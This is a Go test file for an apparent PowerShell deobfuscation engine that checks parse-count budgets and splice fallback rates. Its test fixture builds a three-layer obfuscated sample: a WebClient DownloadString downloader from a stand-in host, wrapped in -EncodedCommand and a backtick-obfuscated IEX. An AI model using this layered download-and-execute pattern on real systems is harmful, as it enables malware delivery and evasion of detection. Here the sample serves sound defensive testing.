package psfront

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// encodeUTF16LEBase64 encodes a script the way PowerShell's
// -EncodedCommand expects: UTF-16LE bytes, then standard base64.
func encodeUTF16LEBase64(s string) string {
	buf := make([]byte, 0, len(s)*2)
	for _, r := range s {
		if r > 0xFFFF {
			r = '?'
		}
		buf = append(buf, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// threeLayerScript builds a fixed 3-layer obfuscated script: an inner
// downloader wrapped in powershell -EncodedCommand, wrapped in a
// string-concat IEX, wrapped in another -EncodedCommand. Every layer
// forces the engine through token parsing, recovery, and unwrap.
func threeLayerScript() string {
	inner := "$u = 'http://layer.test/payload.ps1'\n" +
		"(New-Object Net.WebClient).DownloadString($u)\n"
	layer2 := "powershell -EncodedCommand " + encodeUTF16LEBase64(inner)
	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
	return "powershell -enc " + encodeUTF16LEBase64(layer1) + "\n"
}

// parseBudget is the ceiling on full psparser.Parse invocations for one
// default-options run over threeLayerScript. With batched splicing,
// static literal probes and the merged payload validity gates the run
// measures exactly 8 (one per distinct text the engine must actually
// analyze: the source, two decoded payloads, three token-phase
// rewrites, one piece snippet, the renamed output); the budget is that
// measurement, so any reintroduction of per-replacement full reparses
// or per-probe parses fails loudly.
const parseBudget = 8

// preRefactorParseCount is the measured parse count of the seed engine
// (PR 1, pre-pipeline) on threeLayerScript, recorded before the
// refactor. Kept as a constant so the ≥2× amortization claim stays
// checkable.
const preRefactorParseCount = 55

func TestParseCountBudget(t *testing.T) {
	script := threeLayerScript()
	d := core.New(core.Options{Lang: "powershell"})
	// Warm-up run outside the measurement so one-time costs don't skew.
	if _, err := d.Deobfuscate(script); err != nil {
		t.Fatalf("warm-up: %v", err)
	}
	before := psparser.ParseCalls()
	res, err := d.Deobfuscate(script)
	after := psparser.ParseCalls()
	if err != nil {
		t.Fatalf("Deobfuscate: %v", err)
	}
	if !strings.Contains(res.Script, "http://layer.test/payload.ps1") {
		t.Fatalf("3-layer script not recovered:\n%s", res.Script)
	}
	parses := after - before
	t.Logf("parses per run: %d (pre-refactor engine: %d)", parses, preRefactorParseCount)
	if parses > parseBudget {
		t.Errorf("parse amortization regressed: %d parses per run, budget %d "+
			"(someone reintroduced per-splice full reparses?)", parses, parseBudget)
	}
	if parses*2 > preRefactorParseCount {
		t.Errorf("parse count %d is not ≥2× below the pre-refactor engine's %d",
			parses, preRefactorParseCount)
	}
}

// spliceFallbackCeiling is the share of ast-phase replacement batches
// over the deterministic corpus that may fall back from the batched
// splice to a full re-render and reparse (measured: 0).
const spliceFallbackCeiling = 0.20

// TestParseCountReportsAllInputs reports (verbose mode) the total parse
// count over the deterministic corpus and gates the splice fallback
// rate across it: a rate at or above spliceFallbackCeiling means the
// splicer stopped proving its common edits safe. The corpus parameters
// pin the same inputs as the core equivalence suite.
func TestParseCountReportsAllInputs(t *testing.T) {
	samples := corpus.Generate(corpus.Config{Seed: 20220627, N: 24, MaxL3Layers: 3})
	d := core.New(core.Options{Lang: "powershell"})
	var total int64
	var applied, fallbacks int
	for i, s := range samples {
		before := psparser.ParseCalls()
		res, err := d.Deobfuscate(s.Source)
		if err != nil {
			t.Fatalf("corpus_%02d: %v", i, err)
		}
		total += psparser.ParseCalls() - before
		applied += res.Stats.SplicesApplied
		fallbacks += res.Stats.SpliceFallbacks
	}
	t.Log(fmt.Sprintf("total parses across %d corpus scripts: %d", len(samples), total))
	batches := applied + fallbacks
	if batches == 0 {
		t.Fatal("no replacement batches across the corpus; the splice gate measured nothing")
	}
	rate := float64(fallbacks) / float64(batches)
	t.Logf("splice fallbacks: %d of %d batches (%.2f)", fallbacks, batches, rate)
	if rate >= spliceFallbackCeiling {
		t.Errorf("splice fallback rate %.2f (%d of %d batches), want < %.2f",
			rate, fallbacks, batches, spliceFallbackCeiling)
	}
}
